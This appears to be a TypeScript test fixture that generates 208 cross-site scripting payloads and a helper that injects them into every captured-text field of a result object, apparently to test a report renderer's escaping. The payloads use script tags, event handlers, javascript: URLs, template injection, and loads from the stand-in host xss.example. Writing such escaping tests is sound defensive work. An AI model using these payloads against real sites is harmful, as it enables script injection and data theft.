/** @table Hostile texts for every place in which captured data is shown: 208 payloads, each of which would set `window.__xss` or reach out. */

const RUN = 'window.__xss=1';
const OUT = 'https://xss.example/x';

/** What a text must break out of, and back into, to be code. */
const BREAKS: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['"', '"'],
  ["'", "'"],
  ['`', '`'],
  ['</script>', '<script>'],
  ['</style>', '<style>'],
  ['-->', '<!--'],
  ['</title></textarea></noscript></template>', ''],
  [']]>', '<![CDATA['],
  ['</td></tr></table></details></summary></svg></math>', ''],
  ['\u2028', '\u2029'],
  ['\u0000', '\u001b[2J'],
  ['\\u003c/script\\u003e', '\\x3cscript\\x3e'],
];

/** What runs when it is taken for markup, a script, a style or a link. */
const BODIES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<style>@import url(${OUT});*{background:url(${OUT})}</style>`,
  `<link rel=stylesheet href=${OUT}><meta http-equiv=refresh content="0;url=${OUT}">`,
  `<math><mtext><table><mglyph><style><!--</style><img src onerror=${RUN}>`,
  `<object data=${OUT}></object><embed src=${OUT}>`,
  `<base href=${OUT}><form action=${OUT}><input formaction=javascript:${RUN} type=submit autofocus>`,
  `;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `javascript:${RUN}`,
  `[x](javascript:${RUN}) ![x](${OUT}) <${OUT}>`,
];

export const PAYLOADS: readonly string[] = BREAKS.flatMap(([before, after]) =>
  BODIES.map((body) => `${before}${body}${after}`),
);

/** Fields of a result that hold words of ours, never a captured text. */
const OURS = new Set([
  'schema',
  'severity',
  'source',
  'party',
  'transport',
  'phase',
  'direction',
  'disclosure',
  'verdict',
  'outcome',
  'carrier',
  'id',
  'flows',
  'started',
  'known',
]);

/** A copy of a value in which every captured text is the payload. */
export function poisoned<T>(value: T, payload: string): T {
  if (typeof value === 'string') return payload as T;
  if (Array.isArray(value)) return value.map((item: unknown) => poisoned(item, payload)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, OURS.has(key) ? item : poisoned(item as unknown, payload)]),
  ) as T;
}
